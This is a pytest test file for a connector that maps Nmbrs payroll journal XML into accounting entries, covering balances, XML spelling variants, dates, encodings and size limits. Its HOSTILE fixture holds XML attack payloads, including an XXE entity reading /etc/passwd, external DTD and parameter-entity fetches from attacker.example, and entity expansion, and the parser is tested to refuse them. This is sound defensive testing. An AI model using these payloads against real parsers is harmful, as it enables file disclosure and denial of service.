"""Journals as entries: complete ones to the cent, and the spellings that the dossier leaves open."""

from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from connectors.nmbrs import journals, markup
from connectors.nmbrs.settings import NmbrsSettings
from hub.accounting.documents import Ignored, JournalEntry
from hub.kit import json
from hub.sdk.errors import Malformed

GOLDEN = Path(__file__).parent / "golden"
COMPLETE = {
    "month": {"first": 3, "last": 3, "number": "3"},
    "correction": {"first": 1, "last": 3, "number": "4"},
    "gaps": {"first": 3, "last": 3, "number": "9"},
    "four_weekly": {"company": "2", "first": 13, "last": 13, "number": "13", "kind": "4-weeks"},
    "december": {"first": 12, "last": 12, "number": "12"},
}
OUT_OF_BALANCE = {"gaps": Decimal("0.01")}
HEAD = "<transactions><transaction><header><date>20260331</date></header><lines>"
TAIL = "</lines></transaction></transactions>"
LINE = "<line id='1'><dim1>4000</dim1><value>10.00</value><debitcredit>debit</debitcredit></line>"


def raw(xml: str = HEAD + LINE + TAIL, **facts: Any) -> dict[str, Any]:
    """A record as reading makes it."""
    return {
        "company": "1", "year": 2026, "first": 3, "last": 3, "number": "3", "ordinal": 1, "transaction": 1,
        "description": "Maart 2026", "made_at": "2026-03-24T09:12:44", "locked": True, "type": "", "run": "410233",
        "state": "journal", "kind": "month", "xml": xml, "words": "",
    } | facts  # fmt: skip


def records(name: str) -> list[dict[str, Any]]:
    """The records of a golden journal, one per transaction."""
    found = journals.transactions(markup.decoded((GOLDEN / f"{name}.xml").read_bytes()))
    return [raw(journals.written(one), transaction=at, **COMPLETE[name]) for at, one in enumerate(found, 1)]


def entry(record: dict[str, Any], **chosen: Any) -> JournalEntry:
    found = journals.map_journal(record, NmbrsSettings(**chosen))
    assert isinstance(found, JournalEntry)
    return found


def of(xml: str, **facts: Any) -> JournalEntry:
    """The entry of one transaction, written in some way."""
    (one,) = journals.transactions(xml)
    return entry(raw(journals.written(one), **facts))


def wrong(record: dict[str, Any], **chosen: Any) -> list[str]:
    with pytest.raises(Malformed) as caught:
        journals.map_journal(record, NmbrsSettings(**chosen))
    return [one.key.removeprefix("nmbrs.") for one in caught.value.findings]


@pytest.mark.parametrize("name", COMPLETE)
def test_a_complete_journal_maps_to_its_golden_entry(name: str) -> None:
    found = [json.loads(entry(one).model_dump_json()) for one in records(name)]
    assert found == json.loads((GOLDEN / f"{name}.document.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize("name", COMPLETE)
def test_every_golden_journal_balances_or_is_known_not_to(name: str) -> None:
    for one in map(entry, records(name)):
        difference = sum(line.debit - line.credit for line in one.lines)
        assert difference == OUT_OF_BALANCE.get(name, 0)


def test_a_journal_of_hundreds_of_lines_keeps_every_cent_and_every_leading_zero() -> None:
    (found,) = map(entry, records("four_weekly"))
    assert len(found.lines) == 366
    assert {line.cost_centre.id for line in found.lines if line.cost_centre} == {
        f"{n:05}" for n in range(1000, 2500, 25)
    }
    assert sum(line.debit for line in found.lines if line.account == "4000") == Decimal("412350.75")
    assert (found.year, found.period, found.date) == (2026, 13, date(2026, 12, 27))


def test_negative_values_and_zeros_are_told_as_they_stand() -> None:
    first, second = map(entry, records("december"))
    assert [line.debit or line.credit for line in first.lines] == list(
        map(Decimal, ("-125.50", "3100.00", "0.00", "-25.10", "2999.60"))
    )
    assert [line.account for line in first.lines] == ["04000", "04000", "04990", "01700", "02100"]
    assert (first.source_id, second.source_id) == ("1:2026:12-12:12", "1:2026:12-12:12:t2")
    assert first.lines[-1].description == "Nettoloon é"


SPELLINGS = {
    "another root": HEAD.replace("transactions", "journaal") + LINE + "</lines></transaction></journaal>",
    "a namespace": (HEAD + LINE + TAIL).replace("<transactions>", "<transactions xmlns='urn:x'>"),
    "capitals": (HEAD + LINE + TAIL)
    .replace("dim1", "Dim1")
    .replace("debitcredit", "DebitCredit")
    .replace(">debit<", ">Debit<"),
    "one transaction as root": (HEAD + LINE + TAIL).replace("<transactions>", "").replace("</transactions>", ""),
    "a level more": "<a>" + HEAD + LINE + TAIL + "</a>",
    "the side first": HEAD
    + "<line><debitcredit>debit</debitcredit><description>x</description><value>10.00</value><dim1>4000</dim1></line>"
    + TAIL,
    "empty dimensions": HEAD + LINE.replace("<value>", "<dim2/><dim3> </dim3><value>") + TAIL,
    "more in the header": (HEAD + LINE + TAIL).replace("<date>", "<office>NL1</office><code>MEMO</code><date>"),
    "an iso date": (HEAD + LINE + TAIL).replace("20260331", "2026-03-31"),
    "a date with a time": (HEAD + LINE + TAIL).replace("20260331", "2026-03-31T00:00:00"),
    "a date as people write it": (HEAD + LINE + TAIL).replace("20260331", "31-03-2026"),
    "a comma": HEAD + LINE.replace("10.00", "10,00") + TAIL,
    "a declaration": '<?xml version="1.0" encoding="utf-16"?>' + HEAD + LINE + TAIL,
    "white space and comments": f"\n  <!-- hallo -->{HEAD}\n{LINE}\n<!-- {LINE} -->{TAIL}\n",
    "lines without a list": HEAD.replace("<lines>", "") + LINE + TAIL.replace("</lines>", ""),
}


@pytest.mark.parametrize("xml", SPELLINGS.values(), ids=SPELLINGS)
def test_a_journal_reads_the_same_in_every_plausible_spelling(xml: str) -> None:
    found = of(xml)
    assert [(one.account, one.debit, one.credit, one.cost_centre) for one in found.lines] == [
        ("4000", Decimal("10.00"), Decimal(0), None)
    ]
    assert (found.date, found.currency) == (date(2026, 3, 31), "EUR")


@pytest.mark.parametrize(
    "xml", ["", "  \n", "<transactions/>", "<transactions><transaction/></transactions>", HEAD + TAIL]
)
def test_an_empty_result_is_no_journal(xml: str) -> None:
    assert journals.transactions(xml) == []
    found = journals.map_journal(raw("", state="empty"), NmbrsSettings())
    assert isinstance(found, Ignored)
    assert found.reason.key == "nmbrs.empty_journal"


@pytest.mark.parametrize("page", ["<html><body>Fout</body></html>", "<error>Er ging iets mis</error>"])
def test_a_page_or_an_error_is_no_empty_journal(page: str) -> None:
    with pytest.raises(markup.Unreadable):
        journals.transactions(page)


@pytest.mark.parametrize("gone", ["<dim1>4000</dim1>", ">4000<"])
def test_a_line_without_an_account_is_kept_without_one(gone: str) -> None:
    line = LINE.replace(gone, "" if gone.startswith("<") else "> <")
    assert [one.account for one in of(HEAD + line + TAIL).lines] == [""]


BAD = {
    "no amount": (LINE.replace("10.00", ""), ["amount_unreadable"]),
    "words for an amount": (LINE.replace("10.00", "tien"), ["amount_unreadable"]),
    "an amount of two readings": (LINE.replace("10.00", "1,000"), ["amount_unreadable"]),
    "no side": (LINE.replace("debit<", "<"), ["side_unreadable"]),
    "another side": (LINE.replace(">debit<", ">beide<"), ["side_unreadable"]),
    "all of it": (LINE.replace("10.00", "NaN").replace(">debit<", ">x<"), ["amount_unreadable", "side_unreadable"]),
}


@pytest.mark.parametrize(("line", "keys"), BAD.values(), ids=BAD)
def test_what_cannot_be_read_is_said_line_by_line(line: str, keys: list[str]) -> None:
    assert wrong(raw(HEAD + LINE + line + TAIL)) == keys


def test_a_journal_without_a_date_is_of_the_last_day_of_its_last_period() -> None:
    xml = HEAD.replace("<date>20260331</date>", "") + LINE + TAIL
    assert entry(raw(xml)).date == date(2026, 3, 31)
    assert entry(raw(xml, kind="4-weeks")).date == date(2026, 3, 22)
    assert wrong(raw(xml, kind="")) == ["date_missing"]


def test_a_date_outside_the_payroll_year_is_a_question_with_an_answer() -> None:
    xml = (HEAD + LINE + TAIL).replace("20260331", "20270105")
    record = raw(xml, first=12, last=12)
    assert wrong(record) == ["date_outside_year"]
    assert entry(record, payroll_date="period_end").date == date(2026, 12, 31)
    assert wrong(raw(HEAD.replace("20260331", "maart") + LINE + TAIL)) == ["date_unreadable"]
    assert wrong(raw(HEAD.replace("20260331", "20260231") + LINE + TAIL)) == ["date_unreadable"]


@pytest.mark.parametrize(
    ("kind", "year", "period", "day"),
    [
        ("month", 2026, 2, "2026-02-28"), ("month", 2024, 2, "2024-02-29"), ("month", 2026, 12, "2026-12-31"),
        ("month", 2026, 13, "2026-12-31"), ("4-weeks", 2026, 1, "2026-01-25"), ("4-weeks", 2026, 12, "2026-11-29"),
        ("4-weeks", 2026, 13, "2026-12-31"), ("4-weeks", 2025, 13, "2025-12-28"), ("week", 2026, 9, "2026-03-01"),
        ("week", 2026, 53, "2026-12-31"), ("week", 2025, 53, "2025-12-28"), ("week", 2026, 1, "2026-01-04"),
    ],
)  # fmt: skip
def test_periods_end_on_a_day_of_their_own_year(kind: str, year: int, period: int, day: str) -> None:
    assert journals.last_day(kind, year, period) == date.fromisoformat(day)


def test_a_run_is_called_by_its_periods_and_number() -> None:
    assert journals.shown(raw()) == "2026-03 run 3"
    assert journals.shown(raw(first=1, last=3, number="4")) == "2026-01/03 run 4"
    assert journals.shown(raw(ordinal=2, transaction=2)) == "2026-03 run 3 (2) deel 2"


def test_what_can_be_edited_in_nmbrs_without_the_amounts_is_no_other_booking() -> None:
    plain, renamed = entry(raw()), entry(raw(description="Maart (definitief)", run="1b9d6bcd", type="normal"))
    assert plain.fingerprint() == renamed.fingerprint()
    turned = HEAD + LINE.replace("10.00", "5.00") + LINE + TAIL
    other = HEAD + LINE + LINE.replace("10.00", "5.00") + TAIL
    assert entry(raw(turned)).fingerprint() == entry(raw(other)).fingerprint()


HOSTILE = {
    "entities that grow": '<!DOCTYPE t [<!ENTITY a "loon"><!ENTITY b "&a;&a;&a;&a;">]><t>&b;</t>',
    "a file of ours": '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>',
    "a document type elsewhere": '<!DOCTYPE t SYSTEM "http://attacker.example/x.dtd"><t/>',
    "parameters": '<!DOCTYPE t [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]><t/>',
    "a document type in small letters": '<!doctype t [<!entity a "b">]><t>&a;</t>',
    "an unknown entity": "<t>&onbekend;</t>",
    "cut off": (HEAD + LINE + TAIL)[:-30],
    "two documents": "<t/><t/>",
    "a zero byte": "<t>\x00</t>",
    "no markup": "Internal Server Error",
}


@pytest.mark.parametrize("xml", HOSTILE.values(), ids=HOSTILE)
def test_hostile_and_broken_markup_is_refused(xml: str) -> None:
    with pytest.raises(markup.Unreadable):
        journals.transactions(xml)


def test_words_that_look_like_a_document_type_are_words() -> None:
    line = LINE.replace("</line>", "<description><![CDATA[<!DOCTYPE x>]]></description></line>")
    assert of(HEAD + line + TAIL).lines[0].description == "<!DOCTYPE x>"


def test_a_journal_of_absurd_size_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markup, "LARGEST", 1000)
    with pytest.raises(markup.Unreadable):
        journals.transactions(HEAD + LINE * 100 + TAIL)
    monkeypatch.setattr(markup, "LARGEST", 10**6)
    monkeypatch.setattr(journals, "MOST_LINES", 10)
    with pytest.raises(markup.Unreadable):
        journals.transactions(HEAD + LINE * 100 + TAIL)


TEXT = "<t>Reiskosten één</t>"


@pytest.mark.parametrize(
    "content",
    [
        TEXT.encode(), b"\xef\xbb\xbf" + TEXT.encode(), TEXT.encode("utf-16"), TEXT.encode("utf-16-le"),
        TEXT.encode("utf-16-be"), f'<?xml version="1.0" encoding="utf-16"?>{TEXT}'.encode(),
        f'<?xml version="1.0" encoding="windows-1252"?>{TEXT}'.encode("cp1252"),
    ],
)  # fmt: skip
def test_bytes_are_read_in_the_encoding_that_they_are_in(content: bytes) -> None:
    assert markup.words(markup.parsed(markup.decoded(content))) == "Reiskosten één"


def test_bytes_in_no_stated_encoding_are_refused() -> None:
    with pytest.raises(markup.Unreadable):
        markup.decoded(TEXT.encode("latin-1"))
    with pytest.raises(markup.Unreadable):
        markup.decoded(f'<?xml version="1.0" encoding="klingon"?>{TEXT}'.encode("latin-1"))
